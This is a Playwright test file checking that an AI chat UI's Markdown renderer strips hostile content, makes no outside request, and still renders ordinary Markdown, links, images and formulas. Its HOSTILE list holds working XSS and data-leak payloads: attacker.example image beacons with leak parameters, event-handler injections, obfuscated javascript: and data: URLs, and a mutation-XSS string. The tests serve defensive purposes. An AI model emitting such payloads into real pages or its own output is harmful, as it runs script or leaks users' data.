"""What a model's Markdown becomes in a real browser: safe nodes, and no request by itself."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Serve

pytestmark = pytest.mark.browser

BODY = '<script type="module" src="/agentui-markdown.js"></script>'

RENDER = """([source, images]) => {
    const engine = globalThis[Symbol.for("agentui.markdown")];
    document.body.replaceChildren(engine.render(source, { images }));
    return document.body.innerHTML.trim();
}"""

HOSTILE = [
    ("![x](https://attacker.example/p.png?leak=SECRET)", "img"),
    ("<img src=//attacker.example/p.png?d=1 onerror=alert(1)>", "img"),
    ("![a][ref]\n\n[ref]: https://attacker.example/x.png", "img"),
    ("<script>alert(1)</script>", "script"),
    ("<svg onload=alert(1)><a href=x></svg>", "svg"),
    ("<style>*{background:url(https://attacker.example/)}</style>", "style"),
    ("<link rel=stylesheet href=https://attacker.example/x.css>", "link"),
    ("<iframe src=https://attacker.example></iframe>", "iframe"),
    ("<object data=https://attacker.example></object>", "object"),
    ("<video poster=https://attacker.example/x.png></video>", "video"),
    ("<a href='https://x' style='position:fixed;inset:0'>cover</a>", "[style]"),
    ("<form action=https://attacker.example><input name=q></form>", "form, input"),
    ("<b onmouseover=alert(1)>x</b>", "[onmouseover]"),
    ("<p id=agentui>x</p>", "[id]"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "style, img, math"),
    ("<base href=https://attacker.example>", "base"),
    ("<meta http-equiv=refresh content='0;url=https://attacker.example'>", "meta"),
    ("[open](javascript:alert(1))", "a"),
    ("[open](JaVaScRiPt&#58;alert(1))", "a"),
    ("[open](java&Tab;script:alert(1))", "a"),
    ("[doc](data:text/html;base64,PHNjcmlwdD4=)", "a"),
    ("<javascript:alert(1)>", "a"),
    ('```x" onload="alert(1)\ny\n```', "[onload]"),
    ("[x](https://ok.example 't\" onclick=\"alert(1)')", "[onclick]"),
]


Render = Callable[..., str]


@pytest.fixture
def render(page: Page, serve: Serve) -> Render:
    foreign = serve(BODY)
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))

    def rendered(source: str, images: list[str] | None = None) -> str:
        html: str = page.evaluate(RENDER, [source, images or []])
        page.wait_for_timeout(20)
        assert foreign == []
        return html

    return rendered


@pytest.mark.parametrize(("source", "selector"), HOSTILE)
def test_nothing_hostile_is_left_and_the_text_stays(
    page: Page, render: Render, source: str, selector: str
) -> None:
    render(source)
    assert page.locator(f"body :is({selector})").count() == 0
    assert page.locator("body").inner_text().strip() != ""


def test_ordinary_markdown(page: Page, render: Render) -> None:
    assert "<br>" in render("a\nb")
    assert "H<sub>2</sub>O" in render("H<sub>2</sub>O")
    assert "<h1>Title</h1>" in render("# Title")
    assert "<input" not in render("- [x] done\n- [ ] open")
    assert 'class="language-python"' in render("```python\nx\n```")
    assert '<td align="right">2</td>' in render("| a | b |\n|--|--:|\n| 1 | 2 |")
    assert "&lt;custom-tag&gt;" in render("Use <custom-tag> here")


def test_links_open_elsewhere_and_say_where_they_lead(page: Page, render: Render) -> None:
    render("[a](https://example.com/x) ![a chart](https://example.com/y.png)")
    link, image = page.locator("a").all()
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("title") == "https://example.com/x"
    assert image.inner_text() == "a chart"


def test_images_are_loaded_from_allowed_paths_only(render: Render) -> None:
    assert 'src="/media/a.png"' in render("![a](/media/a.png)", ["/media/"])
    assert "<img" not in render("![a](/media/a.png)")
    assert "<img" not in render("![a](/media/../logout/)", ["/media/"])
    assert "<img" not in render("![a](/media/a.png?leak=1)", ["/media/"])


TEXT = """# Title

One **two** and `code`.

- a
- b

  still b

```js
let x;


// more
```

| a |
|---|
| 1 |

[link][r] at the end

[r]: https://example.com
"""


def test_an_answer_looks_the_same_written_piece_by_piece_as_at_once(
    page: Page, serve: Serve
) -> None:
    serve(BODY + '<script type="module" src="/agentui.js"></script>')
    page.evaluate("customElements.whenDefined('agentui-markdown')")
    shown = page.evaluate(
        """async (text) => {
            const make = () => document.body.appendChild(document.createElement("agentui-markdown"));
            const [whole, grown] = [make(), make()];
            whole.text = text;
            grown.growing = true;
            const first = [];
            for (let end = 1; end <= text.length; end++) {
                grown.text = text.slice(0, end);
                await grown.updateComplete;
                first.push(grown.shadowRoot.querySelector(".block"));
            }
            grown.growing = false;
            await Promise.all([whole.updateComplete, grown.updateComplete]);
            const html = (element) => element.shadowRoot.querySelector("div").textContent.replace(/\\s+/g, " ");
            return { whole: html(whole), grown: html(grown), blocks: new Set(first).size };
        }""",
        TEXT,
    )
    assert shown["grown"] == shown["whole"]
    # The first block was put there once and never again.
    assert shown["blocks"] == 1


FORMULAS = """It costs $5 or $6, and \\(a^2\\) is $b_1$.

$$
\\sum_{i=1}^n

i
$$

```math
c < d
```

Broken: \\(throw\\), hostile: $<img src=x onerror=alert(1)>$, one sign: 3$.
"""
DRAW = """() => import("/agentui.js").then(({ setMathRenderer }) => setMathRenderer((tex, { display }) => {
    if (tex === "throw") throw new Error("bad formula");
    const math = document.createElementNS("http://www.w3.org/1998/Math/MathML", "math");
    if (display) math.setAttribute("display", "block");
    const text = math.appendChild(document.createElementNS("http://www.w3.org/1998/Math/MathML", "mtext"));
    text.textContent = tex;
    return math;
}))"""
SHOWN = """async (text) => {
    const element = document.querySelector("agentui-markdown");
    element.growing = true;
    for (let end = 1; end <= text.length; end++) {
        element.text = text.slice(0, end);
        await element.updateComplete;
    }
    element.growing = false;
    await element.updateComplete;
    return [...element.shadowRoot.querySelectorAll("math")].map((math) =>
        [math.getAttribute("display"), math.textContent.replace(/\\s+/g, " ")]);
}"""


def test_formulas_are_drawn_by_the_page_if_it_says_so(page: Page, serve: Serve) -> None:
    """A site's own renderer, under the strictest policy; without one, dollars are money."""
    foreign = serve(
        BODY
        + '<agentui-markdown></agentui-markdown><script type="module" src="/agentui.js"></script>'
    )
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    page.evaluate("customElements.whenDefined('agentui-markdown')")
    assert page.evaluate(SHOWN, FORMULAS) == []
    expect(page.locator("agentui-markdown")).to_contain_text("and (a^2) is $b_1$")
    page.evaluate(DRAW)
    # What stood there already is drawn again, and what grows becomes the same.
    drawn = [
        [None, "a^2"],
        [None, "b_1"],
        ["block", "\\sum_{i=1}^n i"],
        ["block", "c < d"],
        [None, "<img src=x onerror=alert(1)>"],
    ]
    expect(page.locator("agentui-markdown math")).to_have_count(len(drawn))
    assert page.evaluate(SHOWN, FORMULAS) == drawn
    expect(page.locator("agentui-markdown")).to_contain_text("$5 or $6")
    expect(page.locator("agentui-markdown code")).to_have_text("throw")
    assert page.locator("agentui-markdown img").count() == 0
    assert foreign == []
